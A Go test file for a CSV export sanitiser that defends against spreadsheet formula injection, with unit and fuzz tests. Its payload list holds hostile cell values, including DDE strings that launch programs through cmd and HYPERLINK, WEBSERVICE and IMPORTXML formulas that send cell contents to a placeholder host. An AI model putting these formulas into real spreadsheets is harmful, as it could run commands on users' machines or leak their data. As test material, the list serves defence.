package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// payloads are texts with which spreadsheets have been made to calculate: the signs
// that OWASP ASVS 5.0.0 (1.2.10) names with tab, CR and NUL before them, their
// full-width forms, and forms from common practice, as remembered: calls of
// programs, links that carry cells away, quotes and separators that end a cell.
var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "−1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
	`=HYPERLINK("http://x.example/?"&A1,"see")`, `=WEBSERVICE("http://x.example/"&A1)`, `=IMPORTXML(CONCAT("http://x.example/",A1),"//a")`,
	`"=1+1`, `","=1+1`, "x;=1+1", "x; +1+1;", "x\n=1+1", "x\r\n=1+1", "x\t=1+1", "'=1+1", "''=1+1", "' =1+1", "=", "+", "-", "@", "=-+@", "-5", "+1 555 0100", "=DDE(\"a\";\"b\";\"c\")",
	"{=1+1}", "<b>=1+1</b>", "_x003D_1+1", "_x000D_=1+1", "%0A=1+1",
}

// harmless are texts that must come through as they are.
var harmless = []string{"Wren", "O'Brien", "'t Hooft", "Müller-Lüdenscheidt", "a=b", "Ada; Ruth", "5/3", "(555) 0100", "ʻOkina", "李", "1=1", `say "so"`, "a,b", "x_y", "é"}

//asvs:1.2.10
func TestSafeTexts(t *testing.T) {
	for _, s := range harmless {
		if got := Safe(s); got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
	for _, s := range payloads {
		checkSafe(t, s)
	}
	for s, want := range map[string]string{"=1+1": "'=1+1", "\t=1+1": "' =1+1", "x;=1;-2": "x;'=1;'-2", "-5": "'-5", "a\nb": "a b", "": "", "a\xffb": "a\uFFFDb", "'=1": "''=1"} {
		if got := Safe(s); got != want {
			t.Errorf("%q became %q, want %q", s, got, want)
		}
	}
}

// checkSafe holds what Safe promises of any text.
func checkSafe(t *testing.T, s string) {
	t.Helper()
	got := Safe(s)
	if !utf8.ValidString(got) || strings.IndexFunc(got, unicode.IsControl) >= 0 {
		t.Errorf("%q became %q, which has control characters or broken encoding", s, got)
	}
	for _, part := range strings.Split(got, ";") {
		// Written anew here: what is left when blanks are taken off must begin with no sign.
		bare := strings.TrimLeftFunc(part, func(r rune) bool { return unicode.IsSpace(r) || unicode.Is(unicode.Cf, r) })
		if bare != "" && strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫−", []rune(bare)[0]) {
			t.Errorf("%q became %q: %q may be calculated", s, got, part)
		}
	}
	if strings.Contains(got, ";") {
		return
	}
	if back := strings.TrimPrefix(got, "'"); got != clean(s) && back != clean(s) {
		t.Errorf("%q became %q: more than an apostrophe was changed", s, got)
	}
}

func FuzzSafe(f *testing.F) {
	for _, s := range append(payloads, harmless...) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkSafe(t, s)
		table := textTable("t", s)
		var b bytes.Buffer
		if _, err := table.writeCSV(&b); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != 2 || rows[1][0] != Safe(s) || rows[1][1] != "-5" {
			t.Fatalf("%q read back as %q, %v", s, rows, err)
		}
	})
}

// textTable is a table of texts, each beside a number below 0.
func textTable(name string, texts ...string) Table {
	return Table{Name: name, Columns: []Column{{Key: "value", Name: "Value", Meaning: "A text.", Type: isText}, {Key: "n", Name: "N", Meaning: "A number.", Type: isWhole}},
		Rows: func(add func([]Value) error) error {
			for _, s := range texts {
				if err := add([]Value{Text(s), Int(-5)}); err != nil {
					return err
				}
			}
			return nil
		}}
}
